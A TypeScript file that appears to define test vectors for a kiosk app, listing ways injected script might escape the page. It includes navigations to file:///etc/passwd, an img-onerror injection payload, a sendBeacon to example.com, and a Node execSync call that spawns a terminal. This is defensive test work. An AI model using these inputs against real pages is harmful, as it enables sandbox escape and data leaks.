/** What a page can be made to do, should script of somebody else's ever run in it. */
import type { Vector } from './vector.ts';

/** Places that are not the kiosk's. */
const ADDRESSES = [
  'https://example.com/',
  'http://127.0.0.1:1/',
  'ftp://example.com/',
  'file:///etc/passwd',
  'view-source:file:///etc/passwd',
  'chrome://settings/',
  'chrome://version/',
  'chrome-extension://x/',
  'devtools://devtools/bundled/inspector.html',
  'data:text/html,<h1>out</h1>',
  'javascript:void(document.title="out")',
  'blob:null/x',
  'mailto:x@example.com',
  'tel:12345',
  'ssh://example.com/',
  'intent://example.com/#Intent;end',
  'kiosk://app/gallery/gallery.html',
  'kiosk://elsewhere/index.html',
];

const WAYS: Readonly<Record<string, (address: string) => string>> = {
  'a navigation to': (address) => `location.href = ${address}`,
  'a link to': (address) =>
    `const link = document.createElement('a'); link.href = ${address}; document.body.append(link); link.click(); link.remove();`,
  'a link in a new window to': (address) =>
    `const link = document.createElement('a'); link.href = ${address}; link.target = '_blank'; document.body.append(link); link.click(); link.remove();`,
  'a new window on': (address) => `window.open(${address}, '_blank', 'width=400,height=400')`,
  'a form sent to': (address) =>
    `const form = document.createElement('form'); form.action = ${address}; document.body.append(form); form.submit(); form.remove();`,
  'a frame on': (address) =>
    `const frame = document.createElement('iframe'); frame.src = ${address}; document.body.append(frame); setTimeout(() => frame.remove(), 200);`,
};

const SCRIPTS: Readonly<Record<string, string>> = {
  'a refresh in a meta element':
    "const meta = document.createElement('meta'); meta.httpEquiv = 'refresh'; meta.content = '0;url=https://example.com/'; document.head.append(meta); setTimeout(() => meta.remove(), 200);",
  'a base for all addresses':
    "const base = document.createElement('base'); base.href = 'https://example.com/'; document.head.append(base); fetch('x').catch(() => 0); base.remove();",
  'a download of a blob':
    "const link = document.createElement('a'); link.href = URL.createObjectURL(new Blob(['x'])); link.download = 'out.txt'; link.click();",
  'a download of its own page':
    "const link = document.createElement('a'); link.href = location.href; link.download = 'out.html'; link.click();",
  'an upload dialog': "const input = document.createElement('input'); input.type = 'file'; input.click();",
  'a folder dialog':
    "const input = document.createElement('input'); input.type = 'file'; input.webkitdirectory = true; input.click();",
  'a colour picker':
    "const input = document.createElement('input'); input.type = 'color'; document.body.append(input); input.click(); setTimeout(() => input.remove(), 200);",
  'a date picker':
    "const input = document.createElement('input'); input.type = 'date'; document.body.append(input); try { input.showPicker(); } catch {} setTimeout(() => input.remove(), 200);",
  'the open-file picker': 'window.showOpenFilePicker?.().catch(() => 0)',
  'the save-file picker': 'window.showSaveFilePicker?.().catch(() => 0)',
  'the directory picker': 'window.showDirectoryPicker?.().catch(() => 0)',
  'the print dialog': 'window.print()',
  'an alert': "window.alert('out')",
  'a question': "window.confirm('out')",
  'a prompt': "window.prompt('out')",
  'a page that asks before it is left':
    "addEventListener('beforeunload', (event) => event.preventDefault(), { once: true })",
  'a service worker': "navigator.serviceWorker?.register('/x.js').catch(() => 0)",
  'a worker from elsewhere': "try { new Worker('https://example.com/x.js'); } catch {}",
  'a worker of a blob': "try { new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); } catch {}",
  'a notification': "Notification.requestPermission().then(() => new Notification('out')).catch(() => 0)",
  'the USB picker': 'navigator.usb?.requestDevice({ filters: [] }).catch(() => 0)',
  'the HID picker': 'navigator.hid?.requestDevice({ filters: [] }).catch(() => 0)',
  'the serial port picker': 'navigator.serial?.requestPort().catch(() => 0)',
  'the Bluetooth picker': 'navigator.bluetooth?.requestDevice({ acceptAllDevices: true }).catch(() => 0)',
  'the MIDI devices': 'navigator.requestMIDIAccess?.({ sysex: true }).catch(() => 0)',
  'reading the clipboard': 'navigator.clipboard.readText().catch(() => 0)',
  'the position': 'navigator.geolocation.getCurrentPosition(() => 0, () => 0)',
  'the microphone': 'navigator.mediaDevices.getUserMedia({ audio: true }).catch(() => 0)',
  'sharing the screen': 'navigator.mediaDevices.getDisplayMedia({ video: true }).catch(() => 0)',
  'the share sheet': "navigator.share?.({ url: 'https://example.com/' }).catch(() => 0)",
  'a payment sheet':
    "try { new PaymentRequest([{ supportedMethods: 'https://example.com/pay' }], { total: { label: 'x', amount: { currency: 'CNY', value: '1' } } }).show().catch(() => 0); } catch {}",
  'a security key':
    'navigator.credentials?.get({ publicKey: { challenge: new Uint8Array(8), timeout: 200 } }).catch(() => 0)',
  'the pointer lock': 'document.body.requestPointerLock?.()',
  'the keyboard lock': 'navigator.keyboard?.lock().catch(() => 0)',
  'the orientation lock': "screen.orientation?.lock('landscape').catch(() => 0)",
  'an end of the full screen': 'document.exitFullscreen().catch(() => 0)',
  'full screen for an element': 'document.documentElement.requestFullscreen().catch(() => 0)',
  'a picture in picture':
    'documentPictureInPicture?.requestWindow?.({ width: 300, height: 300 }).catch(() => 0)',
  'an end of the window': 'window.close()',
  'a window that is moved': 'window.moveTo(300, 300)',
  'a window that is made small': 'window.resizeTo(300, 300)',
  'a window that is hidden behind': 'window.blur()',
  'a step back in the history': 'history.back()',
  'a step forward in the history': 'history.forward()',
  'an entry in the history': "history.pushState(null, '', location.pathname)\n; history.back()",
  'a handler for a protocol':
    "try { navigator.registerProtocolHandler('web+out', location.origin + '/?%s'); } catch {}",
  'a request to elsewhere': "fetch('https://example.com/').catch(() => 0)",
  'a beacon to elsewhere': "navigator.sendBeacon('https://example.com/', 'out')",
  'a socket to elsewhere': "try { new WebSocket('wss://example.com/'); } catch {}",
  'an event stream from elsewhere': "try { new EventSource('https://example.com/'); } catch {}",
  'a picture from elsewhere': "new Image().src = 'https://example.com/x.png'",
  'a peer connection':
    "try { const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:example.com' }] }); peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer)); setTimeout(() => peer.close(), 200); } catch {}",
  'an embedded PDF':
    "const embed = document.createElement('embed'); embed.type = 'application/pdf'; embed.src = 'file:///x.pdf'; document.body.append(embed); setTimeout(() => embed.remove(), 200);",
  'an object':
    "const object = document.createElement('object'); object.data = 'https://example.com/'; document.body.append(object); setTimeout(() => object.remove(), 200);",
  'a web view':
    "const view = document.createElement('webview'); view.setAttribute('src', 'https://example.com/'); document.body.append(view); setTimeout(() => view.remove(), 200);",
  'a portal':
    "const portal = document.createElement('portal'); portal.src = 'https://example.com/'; document.body.append(portal); setTimeout(() => portal.remove(), 200);",
  'a picture with a script':
    "const box = document.createElement('div'); box.innerHTML = '<img src=x onerror=\"window.out = 1\">'; document.body.append(box); box.remove();",
  'a script of its own words':
    "const script = document.createElement('script'); script.textContent = 'document.body.remove()'; document.body.append(script); script.remove();",
  'words run as script': "try { Function('document.body.remove()')(); } catch {}",
  'a link followed before it is tapped':
    "const link = document.createElement('link'); link.rel = 'prerender'; link.href = 'https://example.com/'; document.head.append(link); link.remove();",
  'a page zoom by style': 'void 0; visualViewport && window.scrollTo(0, 9999)',
  'Node in the page':
    "try { require('node:child_process').execSync('xterm'); } catch {} try { process.exit(1); } catch {}",
  'everything selected': 'document.execCommand("selectAll"); document.execCommand("copy")',
};

export const WEB: readonly Vector[] = [
  ...Object.entries(WAYS).flatMap(([way, script]) =>
    ADDRESSES.map(
      (address): Vector => ({
        group: 'web',
        name: `${way} ${address}`,
        attempt: ({ script: run }) => run(script(JSON.stringify(address))),
      }),
    ),
  ),
  ...Object.entries(SCRIPTS).map(
    ([name, source]): Vector => ({ group: 'web', name, attempt: ({ script: run }) => run(source) }),
  ),
];
